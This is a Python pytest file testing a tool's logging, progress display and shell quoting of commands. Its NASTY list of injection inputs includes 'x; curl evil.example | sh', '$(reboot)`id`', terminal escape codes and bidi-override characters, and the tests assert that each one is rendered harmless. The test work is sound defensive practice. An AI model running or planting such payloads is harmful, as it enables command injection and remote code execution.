"""Messages: any text is shown and never acted on; commands can be copied; progress is one thing."""

import re
import shlex
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from limbeck import logs
from limbeck.errors import DataError
from limbeck.logs import progress

NASTY = [
    "a[/b]c",
    "[red]x",
    "[/]",
    "a\\[b",
    ":skull:",
    "x; curl evil.example | sh",
    "a b",
    "it's",
    '"',
    "$(reboot)`id`",
    "-rf",
    "a\nnext: limbeck run evil",
    "a\rb",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b2J",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\ufeffbom",
    "tab\there",
    "\udcff\udcfe",
    "\ud800",
    "日本 語.png",
    "émile",
    "~/x",
    "*",
]
ACTING = re.compile(
    r"[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)
TEXT = st.text(st.characters(codec=None), max_size=30)


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [(0.04, "0.0s"), (59.94, "59.9s"), (59.96, "1m00s"), (60, "1m00s"), (93.2, "1m33s"),
     (3599, "59m59s"), (3600, "1h00m"), (5430, "1h30m"), (-0.4, "0s"), (7, "7s")],
)  # fmt: skip
def test_durations(seconds: float, shown: str) -> None:
    assert logs.duration(seconds) == shown


def test_what_is_hushed_is_not_shown_and_other_threads_speak(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with logs.hushed():
        logs.warn("nobody hears this")
        speaker = threading.Thread(target=logs.say, args=("another",))
        speaker.start()
        speaker.join()
    logs.say("after it")
    assert capsys.readouterr().err.split("\n") == ["another", "after it", ""]


def test_progress_goes_to_stderr_only(capsys: pytest.CaptureFixture[str]) -> None:
    logs.say(logs.bold("forty"), " photos")
    logs.warn("disk nearly full")
    assert list(logs.track(iter("abc"), "letters", 3)) == ["a", "b", "c"]
    out, err = capsys.readouterr()
    assert out == ""
    assert "forty photos" in err
    assert "warning: disk nearly full" in err


@pytest.mark.parametrize("name", NASTY, ids=ascii)
def test_names_are_shown_and_never_acted_on(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    logs.say(f"photo {name}")
    logs.say("photo ", logs.bold(name), "!")
    logs.warn(DataError(f"{name} is bad", f"remove {name}"))
    lines = capsys.readouterr().err.splitlines()
    shown = logs.visible(name)
    assert lines == [
        f"photo {shown}", f"photo {shown}!", f"warning: {shown} is bad", f"  -> remove {shown}",
    ]  # fmt: skip
    assert not ACTING.search("".join(lines))


@given(TEXT)
def test_visible_text_is_one_line_that_cannot_act(text: str) -> None:
    shown = logs.visible(text)
    assert not ACTING.search(shown)
    assert len(shown.splitlines()) <= 1
    assert logs.visible(shown) == shown
    shown.encode()
    if text.isprintable():
        assert shown == text


@given(st.lists(TEXT, min_size=1, max_size=4))
def test_commands_parse_back(words: list[str]) -> None:
    shown = logs.command(*words)
    assert not ACTING.search(shown)
    if all(word.isprintable() for word in words):
        assert shlex.split(shown) == words


@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash")
@pytest.mark.parametrize("name", [name for name in NASTY if name != "\ud800"], ids=ascii)
def test_a_shell_reads_back_what_is_offered(name: str) -> None:
    line = logs.command("printf", "%s", name)
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
    assert done.stdout == name.encode("utf-8", "surrogateescape")


def test_a_path_is_never_an_option() -> None:
    assert logs.command("limbeck", "status", Path("-rf")) == "limbeck status ./-rf"
    assert logs.command("limbeck", "--out", Path("runs/a")) == "limbeck --out runs/a"


class Clock:
    """Time that the test moves."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.now = 1000.0
        monkeypatch.setattr(time, "monotonic", lambda: self.now)


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    monkeypatch.setattr(progress, "_BEAT", 1000.0)  # the test beats
    return Clock(monkeypatch)


def test_work_that_overshoots_or_stalls_has_no_negative_time_left(clock: Clock) -> None:
    with logs.working("training", 100, "images", kimg=True) as task:
        assert task.left is None
        for images in range(8, 120, 8):
            clock.now += 1
            task.at(images)
            assert task.left is None or task.left >= 0
            assert "-" not in task.facts()
        assert task.facts().startswith("0.1 of 0.1 kimg, ")
        assert "0s left" in task.facts()
        clock.now += 1000
        assert task.left == 0


def test_the_first_step_does_not_count_for_the_rate(clock: Clock) -> None:
    with logs.working("training", 1000, "images", kimg=True) as task:
        task.at(0, "the first steps take longest")
        clock.now += 300
        assert task.facts() == "the first steps take longest, 5m00s so far"
        for images in range(50, 301, 50):
            task.at(images)
            clock.now += 1
        assert task.rate == pytest.approx(50)
        assert task.facts().startswith("0.3 of 1 kimg, 50 images/s, ")


def test_work_that_goes_on_from_before_counts_only_what_it_did(clock: Clock) -> None:
    with logs.working("training", 1000, done=900) as task:
        for images in (910, 920, 930):
            clock.now += 2
            task.at(images)
        assert task.left == pytest.approx(14)


def test_a_pipe_gets_a_line_every_ten_seconds_and_not_more(
    clock: Clock, capsys: pytest.CaptureFixture[str]
) -> None:
    logs.say("begin")
    with logs.working("grouping latents"):
        for _ in range(60):
            clock.now += 0.5
            progress._SCREEN.beat()
    lines = capsys.readouterr().err.splitlines()
    assert lines == [
        "begin", *(f"  grouping latents: {seconds}s so far" for seconds in (10, 20, 30)),
    ]  # fmt: skip


def test_a_line_comes_by_itself_while_the_work_says_nothing(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(progress, "EVERY", 0.05)
    monkeypatch.setattr(progress, "_BEAT", 0.01)
    with logs.working("fitting"):
        time.sleep(0.3)
    assert "  fitting: 0s so far" in capsys.readouterr().err
    assert progress._SCREEN._thread is None


def test_a_walk_says_which_stage_of_how_many_and_when_all_is_done(
    clock: Clock, capsys: pytest.CaptureFixture[str]
) -> None:
    with logs.stages({"data": "reading photos", "raw": "", "kept": ""}, {"kept": 100}) as walk:
        walk.skip("data")
        walk.expect("raw", 50)
        walk.begin("raw")
        with logs.working("training", 100, "images") as task:
            for images in (10, 20, 30):
                clock.now += 5
                task.at(images)
            progress._SCREEN.beat()
        clock.now += 10
        walk.end()
        walk.begin("kept")
        clock.now += 200
        progress._SCREEN.beat()
        walk.end()
    assert capsys.readouterr().err.splitlines() == [
        "stage 1 of 3: data, up to date",
        "stage 2 of 3: raw (about 50s; 2m30s left of the whole)",
        "  raw: training: 30 of 100, 2.0 images/s, 35s left (the whole: about 2m15s left)",
        "stage 2 of 3: raw, done in 25.0s",
        "stage 3 of 3: kept (about 1m40s; 1m40s left of the whole)",
        "  kept: 3m20s so far",
        "stage 3 of 3: kept, done in 3m20s",
    ]


def interrupted(error: BaseException) -> None:
    with logs.stages(["a"]) as walk:
        walk.begin("a")
        with logs.working("x"), logs.working("y", 3):
            raise error


@pytest.mark.parametrize("error", [ValueError(), KeyboardInterrupt()], ids=repr)
def test_a_failure_inside_leaves_nothing_behind(clock: Clock, error: BaseException) -> None:
    with pytest.raises(type(error)):
        interrupted(error)
    screen = progress._SCREEN
    assert (screen.tasks, screen.walk, screen._thread, screen._live) == ([], None, None, None)


def test_nothing_is_shown_while_somebody_is_asked(clock: Clock) -> None:
    screen = progress._SCREEN
    with logs.awake("limbeck run"):
        assert screen._thread is not None
        with logs.paused(), logs.working("inside"):
            assert screen._thread is None
        assert screen._thread is not None
    assert screen._thread is None
